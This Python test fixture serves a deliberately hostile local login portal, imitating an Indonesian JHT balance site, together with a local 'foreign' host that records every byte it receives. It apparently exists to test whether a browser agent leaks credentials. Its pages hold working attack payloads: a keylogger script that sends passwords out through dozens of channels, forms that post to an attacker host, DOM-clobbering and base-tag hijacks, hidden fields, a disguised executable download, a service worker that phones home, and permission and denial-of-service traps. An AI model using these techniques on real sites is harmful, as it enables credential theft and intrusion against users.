"""A portal that means harm, and the foreign host it works for, which keeps every byte that reaches it."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType

LOGIN = """<label for="email">Email</label><input type="email" id="email" name="email">
<label for="password">Kata sandi</label><input type="password" id="password" name="password"><button id="go">Masuk</button>"""
# What a script of the page would do with what is typed, by every road there is.
SPY = """<script>
function send(value) { ['FOREIGN', 'ELSEWHERE'].forEach(function (host) { sendTo(host, value); }); }
function sendTo(host, value) {
  new Image().src = host + '/img?' + value;
  fetch(host + '/fetch', {method: 'POST', mode: 'no-cors', body: value}).catch(function () {});
  try { navigator.sendBeacon(host + '/beacon', value); } catch (e) {}
  try { new WebSocket('ws' + (host + '/ws').slice(4) + '?' + value); } catch (e) {}
  try { new EventSource(host + '/sse?' + value); } catch (e) {}
  var x = new XMLHttpRequest(); x.open('POST', host + '/xhr'); try { x.send(value); } catch (e) {}
  ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'stylesheet', 'icon', 'modulepreload', 'manifest', 'prerender'].forEach(function (rel) {
    var link = document.createElement('link'); link.rel = rel; link.href = host + '/' + rel + '?' + value; document.head.append(link);
  });
  ['script', 'iframe', 'embed', 'video', 'audio', 'source', 'track'].forEach(function (name) {
    var part = document.createElement(name); part.src = host + '/' + name + '?' + value; document.body.append(part);
  });
  var object = document.createElement('object'); object.data = host + '/object?' + value; document.body.append(object);
  document.body.style.backgroundImage = 'url(' + host + '/css?' + value + ')';
  var frame = document.createElement('iframe'); frame.srcdoc = '<img src="' + host + '/srcdoc?' + value + '">'; document.body.append(frame);
  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + host + "/worker?" + value + "',{mode:'no-cors'})"]))); } catch (e) {}
  try { new WebTransport('https://127.0.0.2:FOREIGNPORT/transport?' + value); } catch (e) {}
  [window, document.body.appendChild(document.createElement('iframe')).contentWindow].forEach(function (place) {
  try { var pc = new place.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:FOREIGNPORT'}, {urls: 'turn:127.0.0.2:FOREIGNPORT?transport=tcp', username: value, credential: value}]});
    pc.createDataChannel('x'); pc.createOffer().then(function (o) { pc.setLocalDescription(o); }); } catch (e) {} });
  var form = document.createElement('form'); form.method = 'post'; form.action = host + '/form'; form.innerHTML = '<input name=v>';
  form.v.value = value; document.body.append(form); form.submit();
  var top = document.createElement('a'); top.href = host + '/ping'; top.ping = host + '/pinged?' + value; document.body.append(top); top.click();
}
document.addEventListener('input', function (event) { if (event.target.type === 'password') send(encodeURIComponent(event.target.value)); });
send('opened');
</script>"""


def in_a_tree(form: str) -> str:
    """A log-in in an open shadow tree, where the document's own search finds nothing of it."""
    return f"<div id=tree></div><script>tree.attachShadow({{mode: 'open'}}).innerHTML = `{form}`</script>"


PAGES = {
    "/": f"<title>Portal</title><h1>Masuk</h1><form method=post action=/in>{LOGIN}</form>",
    "/script-away": "<script>location.href = 'FOREIGN/imitation'</script><p>Tunggu",
    "/meta-away": '<meta http-equiv="refresh" content="0;url=FOREIGN/imitation"><p>Tunggu',
    "/frame": '<h1>Masuk</h1><iframe src="FOREIGN/imitation" width=500 height=300></iframe>',
    "/own-frame": '<h1>Masuk</h1><iframe src="/" width=500 height=300></iframe>',
    "/foreign-form": f"<form method=post action=FOREIGN/steal>{LOGIN}</form>",
    "/get-form": f"<form method=get action=/in>{LOGIN}</form>",
    "/foreign-button": f"<form method=post action=/in>{LOGIN}<button formaction=FOREIGN/steal>Lanjut</button></form>",
    "/tree": in_a_tree(f"<form method=post action=/in>{LOGIN}</form>"),
    "/tree-button": in_a_tree(f"<form method=post action=/in>{LOGIN}<button formaction=FOREIGN/steal>Lanjut</button></form>"),
    "/tree-get": in_a_tree(f"<form method=post action=/in>{LOGIN}<input type=image formmethod=get></form>"),
    "/base": f"<base href=FOREIGN/><form method=post action=in>{LOGIN}</form>",
    "/clobbered": f"<form method=post action=FOREIGN/steal>{LOGIN}<input name=action value=/in><input name=getAttribute value=x></form>",
    "/two": f"<form method=post action=/in>{LOGIN}</form><form method=post action=/in><input type=password name=p2></form>",
    "/covert": "<form method=post action=/in><label>Email<input name=email></label><input type=password name=p style='opacity:0'></form>",
    "/far": "<form method=post action=/in><label>Email<input name=email></label><div style='position:absolute;left:-9000px'><input type=password name=p></div></form>",
    "/covered": f"<form method=post action=/in>{LOGIN}</form><div style='position:fixed;inset:0;background:white'><h1>Selamat</h1></div>",
    "/spy": f"<form method=post action=/in>{LOGIN}</form>{SPY}",
    "/popups": "<script>setInterval(function () { window.open('FOREIGN/pop'); window.open('/'); }, 20)</script><a id=out target=_blank href='FOREIGN/blank'>Keluar</a>",
    "/alerts": "<script>setInterval(function () { alert('Hadiah! ' + Math.random()); }, 5); window.onbeforeunload = function () { return 'x'; };</script><p>Alert",
    "/questions": "<script>var n = 0; setInterval(function () { if (n < 40) { n += 1; window.yes = (window.yes || 0) + confirm('Ya?'); } }, 20); prompt('Kata sandi?')</script><p>Tanya",
    "/program": "<script>location.href = '/setup.exe'</script><p>Unduh",
    "/disguised": "<a id=file download='rsjht.pdf' href='/setup.exe'>Unduh</a><script>document.getElementById('file').click()</script>",
    "/blob": "<script>var a = document.createElement('a'); a.download = 'x.html'; a.href = URL.createObjectURL(new Blob(['<script>1</script' + '>'], {type: 'text/html'})); document.documentElement.append(a); a.click();</script><p>Blob",
    "/asks": "<script>window.got = []; navigator.geolocation.getCurrentPosition(function () { got.push('place'); }, function () {}); if (window.Notification) Notification.requestPermission().then(function (s) { got.push('notice-' + s); });"
    " navigator.mediaDevices && navigator.mediaDevices.getUserMedia({audio: true, video: true}).then(function () { got.push('camera'); }, function () {});"
    " navigator.clipboard && navigator.clipboard.readText().then(function (t) { got.push('clipboard ' + t); }, function () {}); document.execCommand('paste'); document.documentElement.requestFullscreen().then(function () { got.push('full'); }, function () {});</script><p>Izin",
    "/files": "<script>['file:///etc/passwd', 'chrome://version', 'view-source:' + location.href, 'qrc:/', 'devtools://x', 'javascript:void 0'].forEach(function (a) { var l = document.createElement('a'); l.href = a; document.documentElement.append(l); l.click(); var f = document.createElement('iframe'); f.src = a; document.documentElement.append(f); });</script><input type=file id=file><p>Berkas",
    "/endless": "<p>Selamanya<script>setTimeout(function () { for (;;) {} }, 300)</script>",
    "/growing": "<p>Tumbuh<script>setTimeout(function () { var p = document.createElement('p'); p.textContent = 'Saldo JHT Rp 1.000.000 '.repeat(50000); for (var i = 0; i < 45; i += 1) document.body.append(p.cloneNode(true)); }, 100)</script>",
    "/many": "<p>Banyak<script>setTimeout(function () { var f = document.createDocumentFragment(); for (var i = 0; i < 300000; i += 1) f.append(document.createElement('b')); document.body.append(f); }, 100)</script>",
    "/restless": "<title>JHT</title><h1>Saldo JHT</h1><table><tr><th>No. KPJ</th><th>Saldo JHT</th></tr><tr><td>21098764567</td><td>Rp 1.234.567,00</td></tr></table><p id=t></p><script>setInterval(function () { document.getElementById('t').textContent = new Date().toISOString(); }, 50)</script>",
    "/worker": "<script>navigator.serviceWorker && navigator.serviceWorker.register('/sw.js')</script><p>SW",
    "/end": "<title>Selesai</title><p>Selesai",
}
ANSWERS: dict[str, tuple[int, dict[str, str], str]] = {
    "/moved": (302, {"Location": "FOREIGN/imitation"}, ""),
    "/kept": (307, {"Location": "FOREIGN/steal"}, ""),
    "/in": (307, {"Location": "FOREIGN/steal"}, ""),
    "/by-name": (302, {"Location": "NAMED/"}, ""),
    "/refresh": (200, {"Content-Type": "text/html", "Refresh": "0;url=FOREIGN/imitation"}, "<p>Tunggu"),
    "/report": (
        200,
        {
            "Content-Type": "text/html",
            "Content-Security-Policy-Report-Only": "default-src 'none'; report-uri FOREIGN/csp",
            "Link": "<FOREIGN/early>; rel=preload; as=style",
        },
        "<img src=/x.png><script>1</script>",
    ),
    "/setup.exe": (
        200,
        {"Content-Type": "application/octet-stream", "Content-Disposition": "attachment; filename=setup.exe"},
        "MZ" + "x" * 5000,
    ),
    "/sw.js": (
        200,
        {"Content-Type": "text/javascript"},
        "self.addEventListener('install', function () { fetch('FOREIGN/sw', {mode: 'no-cors'}); })",
    ),
}


class Foreign:
    """A host that nobody should come to: another port of this machine's address, and another address. `received`: every byte that came.
    `visits`: connections to the other address, even those over which nothing came."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._other = socket.create_server(("127.0.0.2", self.port))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.2", self.port))
        self.received = b""
        self.visits = 0
        for listening in (self._socket, self._other):
            threading.Thread(target=self._serve, args=(listening,), daemon=True).start()
        threading.Thread(target=self._hear, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self._socket.getsockname()[1])

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self, listening: socket.socket) -> None:
        while True:
            try:
                visitor, _ = listening.accept()
            except OSError:
                return
            self.visits += listening is self._other
            threading.Thread(target=self._talk, args=(visitor,), daemon=True).start()

    def _talk(self, visitor: socket.socket) -> None:
        visitor.settimeout(5)
        body = f"<title>Portal</title><h1>Masuk</h1><form method=post action=/steal>{LOGIN}</form>".encode()
        try:
            while data := visitor.recv(65536):
                self.received += data
                if b"\r\n\r\n" in data:
                    visitor.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
                    )
        except OSError:
            pass
        finally:
            visitor.close()

    def _hear(self) -> None:
        while True:
            try:
                data, _ = self._udp.recvfrom(65536)
            except OSError:
                return
            self.visits += 1
            self.received += data

    def close(self) -> None:
        for listening in (self._socket, self._other, self._udp):
            listening.close()


class HostilePortal:
    """The portal. asked: what it was asked for, with what was sent."""

    def __init__(self) -> None:
        self.foreign = Foreign()
        self.asked: list[tuple[str, bytes]] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self.port = int(self._server.server_address[1])

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def __enter__(self) -> HostilePortal:
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        self._server.shutdown()
        self._server.server_close()
        self.foreign.close()

    def filled(self, text: str) -> str:
        """The text with the addresses of this run in it."""
        named = f"http://localhost:{self.port}"
        return (
            text.replace("FOREIGNPORT", str(self.foreign.port))
            .replace("FOREIGN", self.foreign.url)
            .replace("ELSEWHERE", f"http://127.0.0.2:{self.foreign.port}")
            .replace("NAMED", named)
        )

    def _handler(self) -> Callable[..., BaseHTTPRequestHandler]:
        portal = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                self._answer(b"")

            def do_POST(self) -> None:
                self._answer(self.rfile.read(int(self.headers.get("Content-Length", 0))))

            def _answer(self, sent: bytes) -> None:
                path = self.path.split("?")[0]
                portal.asked.append((self.path, sent))
                page = PAGES.get(path)
                status, headers, body = (
                    (200, {"Content-Type": "text/html; charset=utf-8"}, page)
                    if page is not None
                    else ANSWERS.get(path, (404, {}, ""))
                )
                data = portal.filled(body).encode()
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, portal.filled(value))
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_: object) -> None:
                """Nothing on the screen."""

        return Handler
